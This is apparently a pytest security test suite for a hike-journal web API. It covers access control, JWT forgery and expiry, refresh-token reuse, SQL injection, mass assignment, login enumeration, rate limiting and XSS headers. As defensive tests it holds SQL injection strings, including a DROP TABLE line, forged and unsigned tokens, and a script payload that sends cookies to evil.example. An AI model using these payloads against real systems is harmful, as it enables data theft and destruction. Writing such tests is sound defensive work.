import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
from cairn_checks import expect
from journal import (
    HIKE,
    PASSWORD,
    Customer,
    access_claims,
    bearer,
    claims_of,
    customer,
    known,
    log_in,
    make_token,
    new_email,
    register,
    server,
)

# Over the limit of 64 KB, and small enough to be sent whole before the answer comes.
OVERSIZED = b'{"title": "' + b"x" * 70_000 + b'"}'


@pytest.fixture(scope="module")
def service() -> Iterator[Any]:
    with server() as running:
        yield running


# --- another customer's hikes ---------------------------------------------------------------


def test_no_one_else_reads_a_hike(service: Any) -> None:
    """answers 404 to who reads somebody else's hike"""
    ada = known(service, "ada")
    mallory = known(service, "mallory")
    path = f"/hikes/{ada.add()['id']}"
    expect(mallory.send("GET", path).status, "GET by somebody else").equals(404)


def test_no_one_else_changes_a_hike(service: Any) -> None:
    """answers 404 to who changes somebody else's hike, and changes nothing"""
    ada = known(service, "ada")
    mallory = known(service, "mallory")
    hike = ada.add()
    path = f"/hikes/{hike['id']}"
    answer = mallory.send("PATCH", path, {"version": 1, "title": "Mine now"})
    expect(answer.status, "PATCH by somebody else").equals(404)
    expect(ada.send("GET", path).json(), "the hike afterwards").equals(hike)


def test_no_one_else_deletes_a_hike(service: Any) -> None:
    """answers 404 to who deletes somebody else's hike, and keeps it"""
    ada = known(service, "ada")
    mallory = known(service, "mallory")
    path = f"/hikes/{ada.add()['id']}"
    expect(mallory.send("DELETE", path).status, "DELETE by somebody else").equals(404)
    expect(ada.send("GET", path).status, "GET by its owner afterwards").equals(200)


def test_no_one_else_lists_a_hike(service: Any) -> None:
    """lists nobody else's hikes, whatever the query says"""
    ada = known(service, "ada")
    ada.add(region="Harz")
    other = known(service, "nobody")
    for query in ("", "?region=Harz", f"?owner_id={ada.id}"):
        expect(other.page(query)["items"], f"GET /hikes{query}").equals([])


# --- tokens ---------------------------------------------------------------------------------


def refuses(ada: Customer, token: str, label: str) -> None:
    answer = ada.send("GET", "/me", token=token)
    expect(answer.status, f"GET /me with {label}").equals(401)


@pytest.mark.parametrize("spelling", ["none", "None", "NONE"])
def test_refuses_an_unsigned_token(service: Any, spelling: str) -> None:
    """refuses a token that is signed with alg none"""
    ada = known(service, "ada")
    token = make_token(access_claims(ada.id), algorithm="none")
    if spelling != "none":
        head, body, _ = make_token(access_claims(ada.id), algorithm=spelling).split(".")
        token = f"{head}.{body}."
    refuses(ada, token, f"alg {spelling}")


def test_refuses_a_changed_token(service: Any) -> None:
    """refuses a token whose claims were changed under its signature"""
    ada = known(service, "ada")
    mallory = known(service, "mallory")
    head, _, signature = mallory.access.split(".")
    _, forged, _ = make_token({**claims_of(mallory.access), "sub": ada.id}).split(".")
    refuses(ada, f"{head}.{forged}.{signature}", "changed claims")


def test_refuses_another_key(service: Any) -> None:
    """refuses a token that is signed with another key"""
    ada = known(service, "ada")
    for secret in ("", "secret", "another-" + "k" * 40):
        token = make_token(access_claims(ada.id), secret=secret)
        refuses(ada, token, f"a signature by {secret[:10]!r}")


def test_refuses_an_old_token(service: Any) -> None:
    """refuses a token that has run out, though its signature is right"""
    ada = known(service, "ada")
    refuses(ada, make_token(access_claims(ada.id, seconds=-60)), "a token of a minute ago")


def test_refuses_an_endless_token(service: Any) -> None:
    """refuses a token that never runs out"""
    ada = known(service, "ada")
    claims = access_claims(ada.id)
    del claims["exp"]
    refuses(ada, make_token(claims), "a token without exp")


def test_refuses_a_token_of_another_kind(service: Any) -> None:
    """refuses a token of another kind, such as one for resetting a password"""
    ada = known(service, "ada")
    refuses(ada, make_token({**access_claims(ada.id), "type": "reset"}), "a token to reset")
    refuses(ada, ada.refresh, "the refresh token")


def test_refuses_an_access_token_as_refresh(service: Any) -> None:
    """does not take an access token for a refresh token"""
    ada = known(service, "ada")
    answer = service.post("/auth/refresh", {"refresh_token": ada.access})
    expect(answer.status in (401, 422), "POST /auth/refresh is refused").is_true()


def test_refuses_a_token_of_nobody(service: Any) -> None:
    """refuses a good token for an account that is not there"""
    ada = known(service, "ada")
    refuses(ada, make_token(access_claims("cus_nobody")), "the token of nobody")


def test_ends_the_family_of_a_copied_token(service: Any) -> None:
    """ends every token of a login when a used refresh token comes again"""
    eve = customer(service, "eve")
    stolen = eve.refresh
    first = service.post("/auth/refresh", {"refresh_token": stolen}).json()["refresh_token"]
    again = service.post("/auth/refresh", {"refresh_token": stolen})
    expect(again.status, "POST /auth/refresh with the used token").equals(401)
    after = service.post("/auth/refresh", {"refresh_token": first})
    expect(after.status, "POST /auth/refresh with the token it led to").equals(401)


# --- SQL ------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    ["' OR '1'='1", "Harz' --", "x' UNION SELECT * FROM account --", "'; DROP TABLE hike; --"],
)
def test_takes_no_sql_in_the_region(service: Any, text: str) -> None:
    """takes a region for text, not for SQL"""
    ada = known(service, "ada")
    ada.add(region="Harz")
    eve = known(service, "eve")
    eve.add(region="Eifel")
    answer = eve.send("GET", f"/hikes?region={quote(text)}")
    expect(answer.status, f"GET /hikes?region={text}").equals(200)
    expect(answer.json()["items"], f"GET /hikes?region={text}").equals([])
    eve.add(region=text)
    found = eve.page(f"?region={quote(text)}")["items"]
    expect([hike["region"] for hike in found], "a region of that name").equals([text])


def test_takes_no_sql_at_the_login(service: Any) -> None:
    """lets nobody in by SQL in the address"""
    ada = known(service, "ada")
    for email in (f"{ada.email}' --", "' OR 1=1 --", f"x' UNION SELECT id FROM account --{ada.id}"):
        answer = log_in(service, email, "whatever it is")
        expect(answer.status in (401, 422), f"logging in as {email} is refused").is_true()


def test_takes_no_sql_in_an_id(service: Any) -> None:
    """takes an id for text, not for SQL"""
    ada = known(service, "ada")
    mallory = known(service, "mallory")
    hike = ada.add()
    for text in (f"{hike['id']}' --", "' OR '1'='1", "x' OR owner_id LIKE 'cus%"):
        answer = mallory.send("GET", f"/hikes/{quote(text, safe='')}")
        expect(answer.status, f"GET /hikes/{text}").equals(404)


# --- what nobody may set --------------------------------------------------------------------


def test_nobody_makes_themselves_staff(service: Any) -> None:
    """lets nobody choose a role or an id when registering"""
    for change in ({"role": "staff"}, {"id": "cus_1"}, {"is_admin": True}):
        answer = register(service, new_email(), **change)
        expect(answer.status, f"registering with {change}").equals(422)


def test_nobody_sets_an_owner(service: Any) -> None:
    """lets nobody choose a hike's owner, id or first version"""
    ada = known(service, "ada")
    mallory = known(service, "mallory")
    for change in ({"owner_id": ada.id}, {"id": "hike_1"}, {"version": 7}):
        answer = mallory.send("POST", "/hikes", {**HIKE, **change})
        expect(answer.status, f"adding with {change}").equals(422)


def test_nobody_gives_a_hike_away(service: Any) -> None:
    """lets nobody move a hike to another owner by changing it"""
    ada = known(service, "ada")
    mallory = known(service, "mallory")
    hike = mallory.add()
    answer = mallory.send("PATCH", f"/hikes/{hike['id']}", {"version": 1, "owner_id": ada.id})
    expect(answer.status, "changing owner_id").equals(422)


# --- guessing -------------------------------------------------------------------------------


def test_does_not_say_who_is_registered(service: Any) -> None:
    """answers a wrong password and an unknown address alike"""
    ada = known(service, "ada")
    wrong = log_in(service, ada.email, "not her password")
    unknown = log_in(service, new_email("nobody"), "not her password")
    expect(unknown.status, "the status for an unknown address").equals(wrong.status)
    expect(unknown.json(), "the body for an unknown address").equals(wrong.json())


def test_takes_as_long_for_an_unknown_address(service: Any) -> None:
    """takes as long for an unknown address as for a wrong password"""
    registered = [customer(service, "known").email for _ in range(4)]
    unknown = [new_email("nobody") for _ in range(4)]
    log_in(service, new_email("nobody"))  # what is made once is made now

    def took_ms(email: str) -> float:
        started = time.perf_counter()
        log_in(service, email, "not the password")
        return (time.perf_counter() - started) * 1000

    # in turns, and the fastest of each: a busy machine only ever adds to a time
    times = [(took_ms(one), took_ms(other)) for one, other in zip(registered, unknown, strict=True)]
    wrong_ms, unknown_ms = min(one for one, _ in times), min(other for _, other in times)
    label = f"unknown address {unknown_ms:.0f} ms, wrong password {wrong_ms:.0f} ms: about as long"
    expect(unknown_ms > wrong_ms * 0.4, label).is_true()


def test_stops_guessing(service: Any) -> None:
    """answers 429 after five failed logins, to the right password too"""
    email = new_email("victim")
    register(service, email)
    for number in range(5):
        answer = log_in(service, email, f"guess number {number}")
        expect(answer.status, f"guess {number + 1}").equals(401)
    answer = log_in(service, email)
    expect(answer.status, "the right password after five guesses").equals(429)
    wait = answer.headers.get("retry-after", "")
    expect(wait.isdigit() and 1 <= int(wait) <= 60, "Retry-After is 1 to 60 seconds").is_true()
    other = customer(service, "bystander")
    expect(other.send("GET", "/me").status, "somebody else meanwhile").equals(200)


def test_listens_again() -> None:
    """listens again when the time to wait is over"""
    with server(login_window_seconds=2) as service:
        email = new_email("victim")
        register(service, email)
        for number in range(5):
            log_in(service, email, f"guess number {number}")
        time.sleep(2.2)
        expect(log_in(service, email).status, "the right password after the wait").equals(200)


# --- bodies, scripts, what leaks ------------------------------------------------------------


def test_refuses_an_oversized_body(service: Any) -> None:
    """answers 413 to a body over 64 KB, and goes on"""
    ada = known(service, "ada")
    headers = {**bearer(ada.access), "content-type": "application/json"}
    answer = service.request("POST", "/hikes", body=OVERSIZED, headers=headers)
    expect(answer.status, "POST /hikes with 70 KB").equals(413)
    open_to_all = service.request(
        "POST", "/auth/login", body=OVERSIZED, headers={"content-type": "application/json"}
    )
    expect(open_to_all.status, "POST /auth/login with 70 KB").equals(413)
    expect(service.get("/health").status, "GET /health afterwards").equals(200)


def test_keeps_a_script_as_text(service: Any) -> None:
    """keeps a script in the notes as text that no browser runs"""
    ada = known(service, "ada")
    script = "<script>fetch('https://evil.example/' + document.cookie)</script>"
    hike = ada.add(notes=script)
    answer = ada.send("GET", f"/hikes/{hike['id']}")
    expect(answer.json()["notes"], "the notes").equals(script)
    headers = answer.headers
    kind = headers.get("content-type", "").split(";")[0]
    expect(kind, "Content-Type").equals("application/json")
    expect(headers.get("x-content-type-options"), "X-Content-Type-Options").equals("nosniff")
    policy = headers.get("content-security-policy", "")
    expect("default-src 'none'" in policy, "the policy holds default-src 'none'").is_true()
    expect(headers.get("cache-control"), "Cache-Control").equals("no-store")


def test_refusals_have_the_headers_too(service: Any) -> None:
    """puts the same headers on what it refuses"""
    refused = service.request(
        "POST", "/auth/login", body=OVERSIZED, headers={"content-type": "application/json"}
    )
    for answer, label in ((service.get("/me"), "401"), (refused, "413")):
        found = answer.headers.get("x-content-type-options")
        expect(found, f"X-Content-Type-Options of a {label}").equals("nosniff")


def test_a_stolen_database_lets_nobody_in(tmp_path: Path) -> None:
    """holds neither a password nor a token in its database"""
    with server(tmp_path / "larch.db") as service:
        ada = customer(service)
        ada.add()
    stolen = b"".join(path.read_bytes() for path in tmp_path.glob("larch.db*"))
    expect(ada.email.encode() in stolen, "the database holds the account").is_true()
    for secret, label in ((PASSWORD, "password"), (ada.refresh, "refresh token")):
        expect(secret.encode() in stolen, f"the database holds the {label}").is_false()
    expect(b"$argon2" in stolen, "the database holds an Argon2 hash").is_true()
